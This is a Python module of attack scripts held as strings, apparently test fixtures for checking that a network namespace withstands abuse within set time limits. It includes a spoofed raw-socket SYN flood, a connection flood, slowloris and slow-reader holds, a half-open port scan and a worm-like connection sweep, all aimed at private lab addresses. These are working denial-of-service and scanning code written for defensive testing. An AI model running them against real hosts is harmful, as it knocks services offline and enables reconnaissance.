"""What attackers do, as scripts for the neighbour's namespace: bounded in count and time.

Each says "attacking" when it has begun, and goes on until it is killed or its time is over.
"""

from __future__ import annotations

SECONDS_MAX = 20

# SYNs by a raw socket from all over 10.79.0.0/16, whose SYN-ACKs nobody answers (the neighbour's kernel would reset:
# its answers are kept in by nft).
SYN_FLOOD = f"""
import random, struct
def checksum(data):
    total = sum(struct.unpack(f"!{{len(data) // 2}}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF
draw = random.Random(1)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton("10.78.0.1")
packets = []
for _ in range(20000):
    source = bytes((10, 79, draw.randrange(256), draw.randrange(1, 255)))
    tcp = struct.pack("!HHIIBBHHH", draw.randrange(1024, 65536), 8080, draw.getrandbits(32), 0, 80, 2, 8192, 0, 0)
    sum_ = checksum(source + target + struct.pack("!BBH", 0, 6, 20) + tcp)
    tcp = tcp[:16] + struct.pack("!H", sum_) + tcp[18:]
    packets.append(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, source, target) + tcp)
print("attacking", flush=True)
end = time.monotonic() + {SECONDS_MAX}
while time.monotonic() < end:
    for start in range(0, len(packets), 50):
        for packet in packets[start:start + 50]:
            raw.sendto(packet, ("10.78.0.1", 0))
        time.sleep(0.01)
"""

# Real handshakes from real addresses, held open, saying nothing.
CONNECT_FLOOD = f"""
import itertools, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (20000, 20000))
held, end = [], time.monotonic() + {SECONDS_MAX}
print("attacking", flush=True)
for number in itertools.count():
    one = socket.socket()
    one.setblocking(False)
    one.bind((f"10.79.{{number % 8}}.{{number // 8 % 8 + 1}}", 0))
    one.connect_ex(("10.78.0.1", 8080))
    held.append(one)
    if len(held) > 6000:
        held.pop(0).close()
    if time.monotonic() > end:
        break
    time.sleep(0.001)
"""

# Real connections from real addresses, as many as a small server has room for and again as many; what each does then.
_HOLDS = f"""
import itertools
held, end = [], time.monotonic() + {2 * SECONDS_MAX}
def hold():
    one = socket.socket()
    one.setblocking(False)
    one.bind((f"10.79.4.{{len(held) % 250 + 1}}", 0))
    one.connect_ex(("10.78.0.1", 8080))
    held.append(one)
for _ in range(250):
    hold()
print("attacking", flush=True)
while time.monotonic() < end:
    for number, one in enumerate(held):
        try:
            ACTION
        except BlockingIOError:
            pass
        except OSError:
            one.close()
            held[number] = one = socket.socket()
            one.setblocking(False)
            one.bind((f"10.79.4.{{number % 250 + 1}}", 0))
            one.connect_ex(("10.78.0.1", 8080))
    time.sleep(0.5)
"""
# Nothing is ever sent: whether the connection still stands is looked at without.
EMPTY = _HOLDS.replace("ACTION", "one.recv(1) or one.getpeername()")
# The header of a request, a byte at a time.
SLOWLORIS = _HOLDS.replace("ACTION", 'one.send(b"x")')
# A request, and its answer is never read.
SLOW_READER = _HOLDS.replace(
    "ACTION", 'number in asked or (one.send(b"?\\n"), asked.add(number)); one.getpeername()'
).replace("held, end", "asked = set(); held, end")

# SYNs to port after port, from four addresses in turn; what answers is counted: SYN-ACK or RST. Half open only.
SCAN = f"""
import threading
answered = {{}}
heard = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
def listen():
    while True:
        data, _ = heard.recvfrom(128)
        if data[12:16] == socket.inet_aton("10.78.0.1") and data[16:18] == bytes((10, 79)):
            answered.setdefault(socket.inet_ntoa(data[16:20]), set()).add(data[20:22])
threading.Thread(target=listen, daemon=True).start()
def scan(number, port):
    one = socket.socket()
    one.setblocking(False)
    one.bind((f"10.79.7.{{number % 4 + 1}}", 0))
    one.connect_ex(("10.78.0.1", port))
    held.append(one)
    if len(held) > 500:
        held.pop(0).close()
held = []
print("attacking", flush=True)
end = time.monotonic() + {2 * SECONDS_MAX}
for number in range(20000):
    scan(number, 1000 + number // 4 % 5000)
    if time.monotonic() > end:
        break
    time.sleep(0.0005)
time.sleep(1)
print(sorted(map(len, answered.values())), flush=True)
time.sleep({SECONDS_MAX})
"""

# From the host itself: connects to address after address, as a worm does. Says how many left and how many were refused.
WORM = """
import errno
begun, stopped = 0, 0
print("attacking", flush=True)
end = time.monotonic() + 12
while time.monotonic() < end and begun + stopped < 20000:
    number = begun + stopped
    one = socket.socket()
    one.setblocking(False)
    result = one.connect_ex((f"10.79.{number // 250 % 250}.{number % 250 + 1}", 4444))
    begun += result == errno.EINPROGRESS
    stopped += result == errno.EPERM
    one.close()
    time.sleep(0.0005)
report(begun, stopped)
"""
